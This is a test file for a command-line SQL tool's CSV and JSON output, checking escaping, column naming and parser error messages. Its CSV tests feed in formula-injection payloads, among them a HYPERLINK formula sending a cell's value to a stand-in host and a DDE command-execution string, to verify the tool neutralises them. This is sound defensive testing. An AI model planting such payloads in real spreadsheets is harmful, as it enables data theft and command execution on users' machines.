import { tempFolderOfThisFile } from '../support/temp-folder';
import { history } from './command-line';
import { writeSampleLog } from './sample-log';

const folder = tempFolderOfThisFile();
beforeAll(() => writeSampleLog(folder, 20));

const sql = (question: string, ...options: string[]) => history(folder, ['sql', question, ...options]);

describe('chronocart history sql --csv', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1)',
    '\tx',
    '\nx',
    '＝1+1',
  ])('gives a spreadsheet no formula: %j', async (text) => {
    const { out } = await sql(`SELECT '${text.replaceAll("'", "''")}' AS name, 1 AS n`, '--csv');
    const guarded = `'${text}`;
    const cell = /[",\n]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
    expect(out).toBe(`name,n\r\n${cell},1\r\n`);
  });

  it('guards the names of columns too, and no number, however large', async () => {
    const { out } = await sql(`SELECT -1 AS "=a", -9007199254740993 AS b, -0.25 AS c, -1e300::DOUBLE AS d`, '--csv');
    expect(out).toBe("'=a,b,c,d\r\n-1,-9007199254740993,-0.25,-1e+300\r\n");
  });

  it('tells null and an empty text apart', async () => {
    const { out } = await sql(`SELECT NULL AS a, '' AS b, 'x' AS c`, '--csv');
    expect(out).toBe('a,b,c\r\n,"",x\r\n');
  });

  it('begins with the mark of UTF-8 where --bom asks for it', async () => {
    expect((await sql(`SELECT 'Chef’s knife' AS name`, '--csv', '--bom')).out).toBe('\uFEFFname\r\nChef’s knife\r\n');
    expect((await sql(`SELECT 'Chef’s knife' AS name`, '--csv')).out).toBe('name\r\nChef’s knife\r\n');
    expect(await sql('SELECT 1', '--bom')).toEqual({ status: 2, out: '', err: '--bom goes with --csv.\n' });
  });
});

describe('chronocart history sql --json', () => {
  it('numbers columns of the same name, and loses none', async () => {
    const { out } = await sql('SELECT 1 AS a, 2 AS a, 3 AS a_1, 4 AS a', '--json');
    const { columns, rows } = JSON.parse(out) as { columns: { name: string }[]; rows: object[] };
    expect(columns.map(({ name }) => name)).toEqual(['a', 'a_2', 'a_1', 'a_3']);
    expect(rows).toEqual([{ a: 1, a_2: 2, a_1: 3, a_3: 4 }]);
  });

  it('gives a time that is beyond all dates as DuckDB writes it', async () => {
    const { status, out } = await sql(`SELECT TIMESTAMPTZ '290000-01-01' AS far`, '--json');
    expect(status).toBe(0);
    expect((JSON.parse(out) as { rows: unknown }).rows).toEqual([
      { far: expect.stringMatching(/^290000-01-01 00:00:00/) },
    ]);
  });
});

describe('chronocart history sql', () => {
  it.each([
    ['SELECT 1\nFROM\n ) x', 'line 3, column 2'],
    ["SELECT 'Größe', FROM )", 'line 1, column 22'],
    ['SELECT (', 'line 1, column 9'],
  ])('says where it understands no more: %j', async (question, place) => {
    const { status, err } = await sql(question);
    expect(status).toBe(1);
    expect(err).toMatch(/^Parser Error: syntax error at /);
    expect(err.trim().endsWith(`at ${place}`)).toBe(true);
  });
});
